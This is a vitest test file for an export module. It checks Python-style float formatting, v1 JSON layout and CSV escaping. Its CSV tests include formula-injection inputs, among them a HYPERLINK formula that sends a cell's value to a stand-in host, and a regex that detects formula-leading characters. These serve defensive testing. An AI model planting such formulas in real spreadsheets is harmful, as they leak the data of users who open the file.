import { parse as parseCsvRecords } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { EXPORT_FIELDS, exportCsv, exportJson, formatPythonFloat } from './export.js';
import { EXPORT_DATE, fixture, HEADER, makeUnit, unitA, unitB, unitsArb } from './transfer.test-support.js';

describe('formatPythonFloat', () => {
  it.each([
    [1, '1.0'],
    [0, '0.0'],
    [-0, '-0.0'],
    [0.9, '0.9'],
    [0.75, '0.75'],
    [2.5, '2.5'],
    [0.1 + 0.2, '0.30000000000000004'],
    [1 / 3, '0.3333333333333333'],
    [0.0001, '0.0001'],
    [0.00001, '1e-05'],
    [1.5e-7, '1.5e-07'],
    [1e15, '1000000000000000.0'],
    [1e16, '1e+16'],
    [123456789012345680, '1.2345678901234568e+17'],
    [1e100, '1e+100'],
    [-2, '-2.0'],
    [Number.NaN, 'nan'],
    [Number.POSITIVE_INFINITY, 'inf'],
    [Number.NEGATIVE_INFINITY, '-inf'],
  ])('formats %s as %s', (value, expected) => {
    expect(formatPythonFloat(value)).toBe(expected);
  });

  it('writes text that reads back as the same number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Object.is(Number(formatPythonFloat(value)), value)).toBe(true);
      }),
    );
  });
});

describe('exportJson', () => {
  it('writes the v1 document with 2-space indent, v1 key order and superseded_by', () => {
    expect(exportJson([unitB], EXPORT_DATE)).toBe(
      [
        '{',
        '  "export_date": "2026-02-01T00:00:00.000Z",',
        '  "total_contexts": 1,',
        '  "contexts": [',
        '    {',
        '      "id": "b2",',
        '      "type": "decision",',
        '      "content": "plain",',
        '      "confidence": 0.75,',
        '      "tags": [],',
        '      "source": "api",',
        '      "status": "superseded",',
        '      "created_at": "2026-01-03T00:00:00.000Z",',
        '      "last_used": "2026-01-04T00:00:00.000Z",',
        '      "superseded_by": "a1"',
        '    }',
        '  ]',
        '}',
      ].join('\n'),
    );
  });

  it('writes an empty export', () => {
    expect(exportJson([], EXPORT_DATE)).toBe(
      '{\n  "export_date": "2026-02-01T00:00:00.000Z",\n  "total_contexts": 0,\n  "contexts": []\n}',
    );
  });

  it('keeps the key order for every context', () => {
    const document = JSON.parse(exportJson(fixture, EXPORT_DATE)) as { contexts: object[] };
    expect(Object.keys(document)).toEqual(['export_date', 'total_contexts', 'contexts']);
    for (const context of document.contexts) {
      expect(Object.keys(context)).toEqual([...EXPORT_FIELDS]);
    }
  });

  it('writes non-ASCII characters as they are, not as \\u escapes', () => {
    const json = exportJson([makeUnit({ content: 'café ☕ 😀' })], EXPORT_DATE);
    expect(json).toContain('"content": "café ☕ 😀"');
    expect(json).not.toContain('\\u');
  });

  it('writes null links and times as null', () => {
    const json = exportJson([makeUnit()], EXPORT_DATE);
    expect(json).toContain('"last_used": null,');
    expect(json).toContain('"superseded_by": null\n');
  });
});

describe('exportCsv', () => {
  it('writes CRLF rows with minimal quoting, joined tags, Python floats and empty nulls', () => {
    expect(exportCsv([unitA, unitB])).toBe(
      HEADER +
        'a1,fact,"Hello, ""world""\nline 2",1.0,"x,y z",manual,active,2026-01-02T03:04:05.123Z,,\r\n' +
        'b2,decision,plain,0.75,,api,superseded,2026-01-03T00:00:00.000Z,2026-01-04T00:00:00.000Z,a1\r\n',
    );
  });

  it('writes only the header when there is nothing to export', () => {
    expect(exportCsv([])).toBe(HEADER);
  });

  it('quotes a field holding a lone CR, and leaves spaces and a formula after a space alone', () => {
    const csv = exportCsv([makeUnit({ content: 'a\rb' }), makeUnit({ id: 'u2', content: ' =1+1 ', source: 'x-' })]);
    expect(csv).toBe(
      HEADER +
        'u1,fact,"a\rb",1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n' +
        'u2,fact, =1+1 ,1.0,,x-,active,2026-01-02T03:04:05.123Z,,\r\n',
    );
  });

  it('writes every cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
    const csv = exportCsv([
      makeUnit({
        id: '-2-3',
        content: '=HYPERLINK("http://x.test/?"&A1,"open")',
        tags: ['-neg', 'ok'],
        source: '@SUM(A1)',
        supersededBy: '-1',
      }),
      makeUnit({ id: 'u2', content: '+1', source: '\tcmd' }),
      makeUnit({ id: 'u3', content: '\rx', source: '\uFF1D1+1' }),
    ]);
    expect(csv).toBe(
      HEADER +
        `"'-2-3",fact,"'=HYPERLINK(""http://x.test/?""&A1,""open"")",1.0,"'-neg,ok","'@SUM(A1)",active,2026-01-02T03:04:05.123Z,,"'-1"\r\n` +
        `u2,fact,"'+1",1.0,,"'\tcmd",active,2026-01-02T03:04:05.123Z,,\r\n` +
        `u3,fact,"'\rx",1.0,,"'\uFF1D1+1",active,2026-01-02T03:04:05.123Z,,\r\n`,
    );
  });

  it('adds one more quote to a cell that already starts with quotes before a formula character', () => {
    const csv = exportCsv([makeUnit({ content: "'=1+1", source: "''@x" }), makeUnit({ id: 'u2', content: "'quoted" })]);
    expect(csv).toBe(
      HEADER +
        `u1,fact,"''=1+1",1.0,,"'''@x",active,2026-01-02T03:04:05.123Z,,\r\n` +
        `u2,fact,'quoted,1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n`,
    );
  });

  it('writes confidences Python-style', () => {
    const rows = exportCsv([0, 0.9, 1, 0.00001].map((confidence, i) => makeUnit({ id: `c${i}`, confidence })));
    expect(rows.split('\r\n').map((row) => row.split(',')[3])).toEqual([
      'confidence',
      '0.0',
      '0.9',
      '1.0',
      '1e-05',
      undefined,
    ]);
  });
});

describe('export properties', () => {
  it('never exports a cell that a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(unitsArb, (units) => {
        for (const row of parseCsvRecords(exportCsv(units))) {
          for (const cell of row) {
            expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
          }
        }
      }),
    );
  });
});
